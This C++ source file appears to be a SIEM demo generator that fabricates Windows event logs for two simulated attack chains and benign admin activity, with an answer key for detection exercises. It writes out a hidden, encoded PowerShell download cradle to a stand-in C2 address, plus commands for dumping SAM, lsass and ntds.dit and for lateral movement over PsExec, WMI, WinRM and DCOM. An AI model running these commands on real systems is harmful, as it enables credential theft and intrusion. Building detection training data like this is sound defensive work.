#include "siem/demo/scenarios.hpp"

#include <fmt/format.h>

#include <algorithm>

#include "siem/demo/flat_event.hpp"
#include "siem/demo/sessions.hpp"
#include "siem/demo/techniques.hpp"
#include "siem/demo/windows_events.hpp"

namespace lh::siem::demo {
namespace {

constexpr std::string_view kC2 = "203.0.113.77";
constexpr const char* kCmd = "C:\\Windows\\System32\\cmd.exe";
constexpr const char* kPowerShell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

// PowerShell's -EncodedCommand form: base64 of the UTF-16LE script.
std::string encode_powershell(std::string_view script) {
  static constexpr char kAlphabet[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string bytes;
  for (char c : script) {
    bytes.push_back(c);
    bytes.push_back('\0');
  }
  std::string out;
  for (std::size_t i = 0; i < bytes.size(); i += 3) {
    const auto b0 = static_cast<unsigned char>(bytes[i]);
    const auto b1 = i + 1 < bytes.size() ? static_cast<unsigned char>(bytes[i + 1]) : 0u;
    const auto b2 = i + 2 < bytes.size() ? static_cast<unsigned char>(bytes[i + 2]) : 0u;
    const unsigned n = (b0 << 16) | (b1 << 8) | b2;
    out.push_back(kAlphabet[(n >> 18) & 63]);
    out.push_back(kAlphabet[(n >> 12) & 63]);
    out.push_back(i + 1 < bytes.size() ? kAlphabet[(n >> 6) & 63] : '=');
    out.push_back(i + 2 < bytes.size() ? kAlphabet[n & 63] : '=');
  }
  return out;
}

Step step(Millis delay, std::string image, std::string cmd, std::string child_image = "", std::string child_cmd = "",
          std::string file = "") {
  return {delay, std::move(image), std::move(cmd), std::move(child_image), std::move(child_cmd), std::move(file)};
}

Step net_step(Millis delay, const std::string& args) {
  return step(delay, "C:\\Windows\\System32\\net.exe", "\"C:\\Windows\\system32\\net.exe\" " + args,
              "C:\\Windows\\System32\\net1.exe", "C:\\Windows\\system32\\net1 " + args);
}

Chain chain_one(Planner& p, const GeneratorConfig& cfg, Millis day) {
  const Enterprise& e = p.enterprise();
  Rng& rng = p.rng();
  const Host& wks = e.host(names::kPhishedWorkstation);
  const Host& fs = e.host(names::kFileServer);
  const Host& db = e.host(names::kDbServer);
  const Host& dc = e.host(names::kDc);
  const Session session = user_session(e, wks, cfg.seed, day);
  const Account victim = session.explorer.account;
  EventSink& sink = p.sink();

  // Initial access: a macro document from mail starts an encoded download cradle.
  Millis t = day + 9 * kHour + 30 * kMinute + rng.between(0, 80 * kMinute);
  const std::string doc = fmt::format(
      "C:\\Users\\{}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q3ZT0KSX\\Invoice_{:04}.docm",
      victim.name, rng.between(1000, 9999));
  win::file_create(sink, wks, t - 4000, session.outlook, doc);
  Process word = p.spawn(wks, t, session.outlook, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                         fmt::format("\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"{}\" /o \"\"", doc),
                         victim, session.logon_id, "Medium", 1, fmt::format("C:\\Users\\{}\\Documents\\", victim.name));
  const std::string cradle = fmt::format("IEX (New-Object Net.WebClient).DownloadString('http://{}/news.php')", kC2);
  Process stager = p.spawn(wks, t + 2200, word, kPowerShell,
                           fmt::format("powershell.exe -nop -w hidden -enc {}", encode_powershell(cradle)), victim,
                           session.logon_id, "Medium", 1, fmt::format("C:\\Users\\{}\\Documents\\", victim.name));
  win::script_block(sink, wks, t + 2600, cradle, label("cradle") ^ static_cast<std::uint64_t>(t));
  win::network_connection(sink, wks, t + 2900, stager, {wks.ip, p.ephemeral_port(), std::string(kC2), 80, true});
  const std::string tools = fmt::format("C:\\Users\\{}\\AppData\\Local\\Temp\\", victim.name);
  win::file_create(sink, wks, t + 60000, stager, tools + "PsExec.exe");
  Process shell = p.spawn(wks, t + 75000, stager, kCmd, "\"C:\\Windows\\system32\\cmd.exe\"", victim, session.logon_id,
                          "Medium", 1, tools);
  p.spawn(wks, t + 75010, shell, "C:\\Windows\\System32\\whoami.exe", "whoami /groups", victim, session.logon_id, "Medium", 1, tools);

  Chain chain;
  chain.id = "chain-1";
  chain.description = fmt::format(
      "Phished user {} on {}: PsExec to {}, credential dumping, WMI to {}, WinRM to {}", victim.sysmon_user, wks.name,
      fs.name, db.name, dc.name);

  // Hop 1: PsExec with a helpdesk credential; the interactive SYSTEM shell dumps credentials.
  const Millis hop1 = t + 20 * kMinute + rng.between(0, 15 * kMinute);
  HopRequest r1{&wks, &fs, shell, e.account_of(e.user(names::kHelpdesk)), true, "Welcome2024!", hop1, {}};
  const auto lsass_pid = fs.lsass.pid;
  r1.steps = {
      step(8000, "C:\\Windows\\System32\\whoami.exe", "whoami"),
      step(20000, "C:\\Windows\\System32\\reg.exe", "reg save HKLM\\SAM C:\\Windows\\Temp\\sam.save", "", "",
           "C:\\Windows\\Temp\\sam.save"),
      step(9000, "C:\\Windows\\System32\\reg.exe", "reg save HKLM\\SYSTEM C:\\Windows\\Temp\\system.save", "", "",
           "C:\\Windows\\Temp\\system.save"),
      step(40000, "C:\\Windows\\System32\\rundll32.exe",
           fmt::format("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {} C:\\Windows\\Temp\\lsass.dmp full", lsass_pid),
           "", "", "C:\\Windows\\Temp\\lsass.dmp"),
  };
  Process remote_shell;
  Hop h1 = psexec(p, r1, "cmd.exe", &remote_shell);
  h1.order = 1;

  // Hop 2: WMI from the PsExec shell with the SQL service account; the created PowerShell runs hop 3.
  const Millis hop2 = hop1 + 9 * kMinute + rng.between(0, 6 * kMinute);
  const Account domain_admin = e.account_of(e.user(names::kDomainAdmin));
  const std::string remote_block =
      "net group \"domain admins\" /domain; whoami /all; ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\Windows\\Temp\\ifm\" q q";
  const std::string stage2 = fmt::format(
      "$pw = ConvertTo-SecureString 'Adm!nJd0e#7' -AsPlainText -Force; $cred = New-Object "
      "System.Management.Automation.PSCredential('{}\\{}', $pw); Invoke-Command -ComputerName {} -Credential $cred "
      "-ScriptBlock {{ {} }}",
      e.netbios, domain_admin.name, dc.name, remote_block);
  const std::string stage2_cmd = "powershell.exe -nop -w hidden -enc " + encode_powershell(stage2);
  HopRequest r2{&fs, &db, remote_shell, e.account_of(e.user(names::kSqlService)), true, "SqlSvc!2019", hop2, {}};
  r2.steps = {step(0, kPowerShell, stage2_cmd)};
  Process ps_on_db;
  Hop h2 = wmi_process_create(p, r2, &ps_on_db);
  h2.order = 2;

  // Hop 3: the PowerShell created by WMI remotes into the domain controller.
  const Millis hop3 = hop2 + 3500;
  HopRequest r3{&db, &dc, ps_on_db, domain_admin, true, "Adm!nJd0e#7", hop3, {}};
  r3.steps = {
      net_step(1200, "group \"domain admins\" /domain"),
      step(1500, "C:\\Windows\\System32\\whoami.exe", "\"C:\\Windows\\system32\\whoami.exe\" /all"),
      step(2500, "C:\\Windows\\System32\\ntdsutil.exe",
           "\"C:\\Windows\\system32\\ntdsutil.exe\" \"ac i ntds\" \"ifm\" \"create full C:\\Windows\\Temp\\ifm\" q q", "", "",
           "C:\\Windows\\Temp\\ifm\\Active Directory\\ntds.dit"),
  };
  Hop h3 = winrm_invoke_command(p, r3, remote_block);
  h3.order = 3;
  h3.source_process.parent_image = h2.execution.parent_image;  // the PowerShell WMI created on DB01
  chain.hops = {std::move(h1), std::move(h2), std::move(h3)};
  return chain;
}

Chain chain_two(Planner& p, const GeneratorConfig& cfg, Millis day) {
  const Enterprise& e = p.enterprise();
  Rng& rng = p.rng();
  // A different workstation from the first chain's.
  std::size_t index = 0;
  std::string name;
  do {
    index = static_cast<std::size_t>(rng.between(1, static_cast<std::int64_t>(e.workstation_count)));
    name = fmt::format("WKS-{:03}", index);
  } while (name == names::kPhishedWorkstation);
  const Host& wks = e.host(name);
  const Host& app = e.host(names::kAppServer);
  const Host& web = e.host(names::kWebServer);
  const Session session = user_session(e, wks, cfg.seed, day);
  const Account victim = session.explorer.account;
  EventSink& sink = p.sink();

  Millis t = day + 13 * kHour + 30 * kMinute + rng.between(0, 80 * kMinute);
  const std::string implant_path =
      fmt::format("C:\\Users\\{}\\AppData\\Roaming\\Microsoft\\Windows\\Templates\\updater.exe", victim.name);
  Process implant = p.spawn(wks, t - 25 * kMinute, session.explorer, implant_path, "\"" + implant_path + "\"", victim,
                            session.logon_id, "Medium", 1, fmt::format("C:\\Users\\{}\\", victim.name));
  win::network_connection(sink, wks, t - 25 * kMinute + 3000, implant,
                          {wks.ip, p.ephemeral_port(), std::string(kC2), 443, true});
  win::file_create(sink, wks, t - 10 * kMinute, implant, "C:\\Users\\Public\\Libraries\\svchealth.exe");
  Process shell = p.spawn(wks, t - 2 * kMinute, implant, kCmd, "C:\\Windows\\system32\\cmd.exe", victim,
                          session.logon_id, "Medium", 1, "C:\\Users\\Public\\Libraries\\");

  Chain chain;
  chain.id = "chain-2";
  chain.description = fmt::format(
      "Implant on {} ({}): tool copied to {} over C$, run by a remote scheduled task, then DCOM MMC20 to {}", wks.name,
      victim.sysmon_user, app.name, web.name);
  const Account backup_admin = e.account_of(e.user(names::kBackupAdmin));

  HopRequest r1{&wks, &app, shell, backup_admin, true, "B@ckup2023", t, {}};
  Hop h1 = admin_share_copy(p, r1, "C:\\Users\\Public\\Libraries\\svchealth.exe", "Windows\\Temp\\svchealth.exe");
  h1.order = 1;

  HopRequest r2{&wks, &app, shell, backup_admin, true, "B@ckup2023", t + 50 * kSecond, {}};
  r2.steps = {net_step(30000, "localgroup administrators")};
  Process task;
  Hop h2 = remote_scheduled_task(p, r2, "\\Microsoft\\Windows\\Maintenance\\SvcHealthCheck",
                                 "C:\\Windows\\Temp\\svchealth.exe", &task);
  h2.order = 2;
  win::network_connection(sink, app, t + 50 * kSecond + 12000, task,
                          {app.ip, p.ephemeral_port(), std::string(kC2), 443, true});

  const Millis hop3 = t + 6 * kMinute + rng.between(0, 6 * kMinute);
  HopRequest r3{&app, &web, task, backup_admin, true, "B@ckup2023", hop3, {}};
  r3.steps = {
      step(0, kCmd, "\"C:\\Windows\\System32\\cmd.exe\" /c whoami /all > C:\\Windows\\Temp\\w.txt",
           "C:\\Windows\\System32\\whoami.exe", "whoami  /all", "C:\\Windows\\Temp\\w.txt"),
  };
  Hop h3 = dcom_mmc20(p, r3);
  h3.order = 3;
  chain.hops = {std::move(h1), std::move(h2), std::move(h3)};
  return chain;
}

// An administrator's remote-desktop logon to a server or the jump host.
std::uint64_t admin_logon(Planner& p, const Host& host, const Account& admin, Millis t) {
  const std::uint64_t logon = p.new_logon_id(host, t);
  win::Logon l;
  l.type = 10;
  l.target = admin;
  l.target_logon_id = logon;
  l.package = "Negotiate";
  l.workstation = host.name;
  l.ip = "10.10.1.50";
  l.port = "0";
  l.subject_is_system = true;
  l.process_id = host.lsass.pid + 64;
  l.process_name = "C:\\Windows\\System32\\svchost.exe";
  win::logon(p.sink(), host, t, l);
  win::special_privileges(p.sink(), host, t, admin, logon);
  return logon;
}

// A shell in that session (its creation is not part of the data).
Process admin_shell(Planner& p, const Host& host, const Account& admin, std::uint64_t logon, Millis t, bool powershell) {
  Process shell = p.existing(host, t, powershell ? kPowerShell : kCmd,
                             powershell ? "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" "
                                        : "\"C:\\Windows\\system32\\cmd.exe\" ",
                             admin, logon, "High", 2);
  shell.current_directory = fmt::format("C:\\Users\\{}\\", admin.name);
  return shell;
}

Hop local_psexec(Planner& p, Millis day) {
  const Enterprise& e = p.enterprise();
  const Host& host = e.host(names::kDbServer);
  const Account admin = e.account_of(e.user(names::kAdminB));
  const Millis t = day + 15 * kHour + p.rng().between(0, 90 * kMinute);
  Process shell = admin_shell(p, host, admin, admin_logon(p, host, admin, t - 40 * kMinute), t - 30 * kMinute, false);
  shell.current_directory = "C:\\Tools\\PSTools\\";
  HopRequest r{&host, &host, shell, admin, false, "", t, {}};
  r.steps = {};
  return psexec(p, r, "reg save HKLM\\security\\policy\\secrets C:\\Windows\\Temp\\secrets.save");
}

const char* const kAdminCommands[] = {"ipconfig /all", "gpupdate /force", "sc query W3SVC", "tasklist /v",
                                      "net stop spooler", "sc query MSSQLSERVER", "ipconfig /flushdns"};

std::pair<std::string, std::string> admin_command(Rng& rng) {
  const std::string cmd = rng.pick(kAdminCommands);
  const std::string exe = cmd.substr(0, cmd.find(' '));
  return {fmt::format("C:\\Windows\\System32\\{}.exe", exe), cmd};
}

void administration(Planner& p, Millis day, AnswerKey& key) {
  const Enterprise& e = p.enterprise();
  Rng& rng = p.rng();
  const Host& jump = e.host(names::kAdminJump);
  const Host& deploy = e.host(names::kDeployment);
  const auto servers = e.servers();
  const Account admins[] = {e.account_of(e.user(names::kAdminA)), e.account_of(e.user(names::kAdminB))};
  const Account deployer = e.account_of(e.user(names::kDeployAccount));
  Process smsexec = p.existing(deploy, deploy.boot + 5 * kMinute,
                               "C:\\Program Files\\Microsoft Configuration Manager\\bin\\x64\\smsexec.exe",
                               "\"C:\\Program Files\\Microsoft Configuration Manager\\bin\\x64\\smsexec.exe\"",
                               deploy.system_account, 0x3e7, "System", 0);
  const int actions_per_day = 3 + static_cast<int>(servers.size() / 2);
  {
    // Each administrator works from one jump-host session a day, with a cmd and a PowerShell window.
    Process shells[2][2];
    for (std::size_t a = 0; a < 2; ++a) {
      const Millis logon_time = day + 8 * kHour + rng.between(0, 40 * kMinute);
      const std::uint64_t logon = admin_logon(p, jump, admins[a], logon_time);
      for (std::size_t k = 0; k < 2; ++k) shells[a][k] = admin_shell(p, jump, admins[a], logon, logon_time + 60000 * (k + 1), k == 1);
    }
    for (int i = 0; i < actions_per_day; ++i) {
      const auto which = rng.below(2);
      const Account& admin = admins[which];
      const Host& target = *servers[rng.below(servers.size())];
      const Millis t = day + 9 * kHour + rng.between(0, 8 * kHour);
      const auto kind = rng.below(3);
      Process shell = shells[which][kind == 2 ? 1 : 0];
      HopRequest r{&jump, &target, shell, admin, false, "", t, {}};
      Hop hop;
      if (kind == 0) {
        auto [image, cmd] = admin_command(rng);
        r.steps = {step(1500, image, cmd)};
        shell.current_directory = "C:\\Tools\\PSTools\\";
        r.source_parent = shell;
        hop = psexec(p, r, "cmd.exe /c " + cmd);
      } else if (kind == 1) {
        r.steps = {step(0, kCmd, "cmd.exe /c C:\\Scripts\\collect_inventory.cmd")};
        hop = wmi_process_create(p, r);
      } else {
        auto [image, cmd] = admin_command(rng);
        r.steps = {step(0, image, cmd)};
        hop = winrm_invoke_command(p, r, cmd);
      }
      hop.order = static_cast<int>(key.benign_remote_executions.size()) + 1;
      key.benign_remote_executions.push_back(std::move(hop));
    }
    // Client pushes to a few workstations per day.
    const std::size_t pushes = 1 + e.workstation_count / 40;
    for (std::size_t i = 0; i < pushes; ++i) {
      const std::string name =
          fmt::format("WKS-{:03}", rng.between(1, static_cast<std::int64_t>(e.workstation_count)));
      const Host& target = e.host(name);
      HopRequest r{&deploy, &target, smsexec, deployer, true, "", day + 10 * kHour + rng.between(0, 6 * kHour), {}};
      Hop hop = service_push(p, r);
      hop.order = static_cast<int>(key.benign_remote_executions.size()) + 1;
      key.benign_remote_executions.push_back(std::move(hop));
    }
  }
}

}  // namespace

ScenarioPlanner::ScenarioPlanner(const Enterprise& e, const GeneratorConfig& cfg) : e_(e), cfg_(cfg) {
  key_.seed = cfg.seed;
  key_.scale = cfg.scale;
  key_.start = cfg.start;
  key_.days = cfg.days;
  key_.domain = e.domain_fqdn;
  key_.admin_hosts = {std::string(names::kAdminJump), std::string(names::kDeployment)};
  for (const auto& h : e.hosts) {
    static constexpr const char* kRoles[] = {"workstation", "file_server", "database_server", "app_server",
                                             "web_server",  "domain_controller", "admin_jump", "deployment"};
    key_.hosts.push_back({{"name", h.name}, {"fqdn", h.fqdn}, {"ip", h.ip}, {"role", kRoles[static_cast<int>(h.role)]}});
  }
}

void ScenarioPlanner::plan_day(int d, EventSink& sink) {
  const Millis day = cfg_.start + d * kDay;
  const int chain1_day = cfg_.days >= 2 ? 1 : 0;
  const int chain2_day = cfg_.days - 1;
  // Each kind of activity draws from its own stream, so one never shifts another.
  if (d == chain1_day) {
    Planner p(e_, sink, mix_key(cfg_.seed, {label("chain-1")}));
    key_.chains.insert(key_.chains.begin(), chain_one(p, cfg_, day));
  }
  if (d == chain2_day) {
    Planner p(e_, sink, mix_key(cfg_.seed, {label("chain-2")}));
    key_.chains.push_back(chain_two(p, cfg_, day));
  }
  if (d == 0) {
    Planner p(e_, sink, mix_key(cfg_.seed, {label("local-psexec")}));
    Hop local = local_psexec(p, day);
    local.order = 1;
    key_.local_executions.push_back(std::move(local));
  }
  Planner p(e_, sink, mix_key(cfg_.seed, {label("administration"), static_cast<std::uint64_t>(d)}));
  administration(p, day, key_);
}

AnswerKey plan_scenarios(const Enterprise& e, const GeneratorConfig& cfg, EventSink& sink) {
  ScenarioPlanner planner(e, cfg);
  for (int d = 0; d < cfg.days; ++d) planner.plan_day(d, sink);
  return planner.key();
}

}  // namespace lh::siem::demo
